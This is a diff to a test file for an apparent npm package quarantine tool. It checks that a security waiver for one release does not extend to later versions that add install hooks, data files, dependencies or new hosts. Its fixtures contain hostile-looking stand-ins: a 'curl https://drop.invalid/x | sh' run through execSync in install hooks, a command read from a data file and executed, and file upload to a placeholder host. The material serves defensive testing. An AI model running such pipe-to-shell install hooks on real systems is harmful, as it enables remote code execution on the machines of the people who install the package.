@@ -6,7 +6,11 @@ import { holdLazaret } from './in-process.ts'
 const OLD = '2022-01-02T03:04:05.000Z'
 const ADA = { actor: { kind: 'user', name: 'ada' }, role: 'admin' } as const
 
-const SETUP = `require('node:child_process').execSync('curl https://drop.invalid/x | sh')\n`
+const SETUP = `const { execSync } = require('node:child_process')
+const read = (path) => JSON.parse(require('node:fs').readFileSync(path))
+execSync('curl https://drop.invalid/x | sh')
+execSync(read(__dirname + '/data.json').command + read(__dirname + '/package.json').at)
+`
 const UPLOAD = `exports.upload = (file) => require('node:https').request('https://up.invalid', file)\n`
 const READ = `exports.key = () => require('node:fs').writeFileSync('/tmp/x', process.env.HOME)\n`
 
@@ -15,19 +19,30 @@ const VERSIONS: readonly (readonly [version: string, what: string, files: Record
   ['1.1.0', 'the same code by itself', { 'lib/up.js': `${UPLOAD}// more words\n`, 'README.md': 'new' }],
   ['1.2.0', 'a capability more outside of it', { 'lib/up.js': UPLOAD, 'lib/read.js': READ }],
   ['1.3.0', 'other code by itself', { 'lib/up.js': UPLOAD, 'setup.js': `${SETUP}console.log(1)\n` }],
-  ['1.4.0', 'a hook more', { 'lib/up.js': UPLOAD }, { preinstall: 'node setup.js' }],
+  [
+    '1.4.0',
+    'a hook more',
+    { 'lib/up.js': UPLOAD },
+    { scripts: { postinstall: 'node setup.js', preinstall: 'node setup.js' } },
+  ],
+  ['1.5.0', 'other data that it reads', { 'lib/up.js': UPLOAD, 'data.json': '{"command":"env"}' }],
+  ['1.6.0', 'another setting in its manifest', { 'lib/up.js': UPLOAD }, { at: 'else' }],
+  ['1.7.0', 'another dependency', { 'lib/up.js': UPLOAD }, { dependencies: { left: '1.0.0' } }],
+  ['1.8.0', 'native code', { 'lib/up.js': UPLOAD, 'build/a.node': 'native' }],
+  ['1.9.0', 'a bundled package', { 'lib/up.js': UPLOAD, 'node_modules/left/index.js': '1' }],
+  ['1.10.0', 'another host that is called', { 'lib/up.js': UPLOAD.replace('up.invalid', 'else.invalid') }],
 ]
 
 t.test('a release for a surface covers later versions that run the same, and gained nothing', async (t) => {
   const world = await startWorld()
   t.teardown(() => world.close())
   for (const [version, , files, more] of VERSIONS) {
-    const scripts = { postinstall: 'node setup.js', ...more }
+    const manifest = { scripts: { postinstall: 'node setup.js' }, at: 'here', ...more }
     const built = npmTarball({
       name: 'hooked',
       version,
-      scripts,
-      files: { 'index.js': 'exports.a = 1\n', 'setup.js': SETUP, ...files },
+      manifest,
+      files: { 'index.js': 'exports.a = 1\n', 'setup.js': SETUP, 'data.json': '{"command":"true"}', ...files },
     })
     world.npm.publish({ built, publishedAt: OLD })
   }
@@ -44,7 +59,7 @@ t.test('a release for a surface covers later versions that run the same, and gai
   })
   t.match(released, { waiver: { scope: { kind: 'surface', surface: { scripts: { postinstall: 'node setup.js' } } } } })
   const id = 'waiver' in released ? released.waiver.id : ''
-  const wanted = { '1.0.0': 200, '1.1.0': 200, '1.2.0': 403, '1.3.0': 403, '1.4.0': 403 }
+  const wanted = Object.fromEntries(VERSIONS.map(([version], at) => [version, at < 2 ? 200 : 403]))
   const found: Record<string, number> = {}
   for (const [version] of VERSIONS) found[version] = await status(version)
   t.strictSame(found, wanted, VERSIONS.map(([version, what]) => `${version}: ${what}`).join('; '))
